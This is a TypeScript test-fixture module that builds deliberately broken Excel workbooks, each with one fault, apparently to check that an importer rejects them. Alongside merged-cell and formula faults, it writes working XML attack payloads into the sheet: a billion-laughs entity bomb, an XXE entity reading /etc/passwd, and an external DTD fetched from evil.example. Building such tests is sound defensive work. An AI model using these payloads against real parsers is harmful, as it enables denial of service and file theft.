import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import type { Broken } from './broken-workbooks.ts';

/** Where its one fault is told: the sheet and the row; row 0 is of the whole file. */
export type OneFault = Broken & { told: readonly { sheet: string; row: number }[] };

/** The sheet `industries`, the first of a brain. */
const FIRST_SHEET = 'xl/worksheets/sheet1.xml';
const WHOLE_FILE = [{ sheet: '(the file)', row: 0 }] as const;
const multiplied = Array.from('bcdefghij')
  .map((name, n) => `<!ENTITY ${name} "${`&${'abcdefghi'[n]};`.repeat(10)}">`)
  .join('');

/** The cell at a place, as it lies in the file. */
const cellAt = (place: string): RegExp => new RegExp(`<c r="${place}"[^>]*>.*?</c>`, 'u');

/** Sets a cell anew. @throws Error where there is none: nothing would be broken then. */
const setCell = (xml: string, place: string, cell: string): string => {
  if (!cellAt(place).test(xml)) throw new Error(`there is no cell ${place}`);
  return xml.replace(cellAt(place), () => cell);
};
const declared = (xml: string, entities: string): string =>
  `<!DOCTYPE worksheet [${entities}]>${xml.replace(/^<\?xml[^>]*\?>/u, '')}`;
const written = (place: string, text: string): string => `<c r="${place}" t="inlineStr"><is><t>${text}</t></is></c>`;

/** A whole brain with one fault each, made in the file itself: without it the workbook would be taken. */
export const oneFaultWorkbooks = (shipped: Uint8Array): OneFault[] => {
  const made = (what: string, told: OneFault['told'], edit: (sheet: string) => string): OneFault => ({
    what,
    told,
    bytes() {
      const parts = unzipSync(shipped);
      const sheet = strFromU8(parts[FIRST_SHEET] ?? new Uint8Array());
      return zipSync({ ...parts, [FIRST_SHEET]: strToU8(edit(sheet)) });
    },
  });
  const row = (at: number) => ({ sheet: 'industries', row: at });
  return [
    // as a spreadsheet program merges: what the cells below held is gone
    made('merged cells', [row(3), row(4)], (xml) =>
      setCell(setCell(xml, 'B3', '<c r="B3"/>'), 'B4', '<c r="B4"/>').replace(
        '</sheetData>',
        '</sheetData><mergeCells count="1"><mergeCell ref="B2:B4"/></mergeCells>',
      ),
    ),
    made('a formula that was never worked out', [row(2)], (xml) => setCell(xml, 'C2', '<c r="C2"><f>1/4</f></c>')),
    made('a formula that looks into another file and found nothing', [row(2)], (xml) =>
      setCell(xml, 'C2', `<c r="C2" t="e"><f>'[other.xlsx]a'!A1</f><v>#REF!</v></c>`),
    ),
    made('entities that multiply', WHOLE_FILE, (xml) =>
      declared(setCell(xml, 'B2', written('B2', '&j;')), `<!ENTITY a "aaaaaaaaaa">${multiplied}`),
    ),
    made('an entity of this machine', WHOLE_FILE, (xml) =>
      declared(setCell(xml, 'B2', written('B2', '&x;')), '<!ENTITY x SYSTEM "file:///etc/passwd">'),
    ),
    made('an entity from elsewhere', WHOLE_FILE, (xml) =>
      declared(xml, '<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;'),
    ),
  ];
};
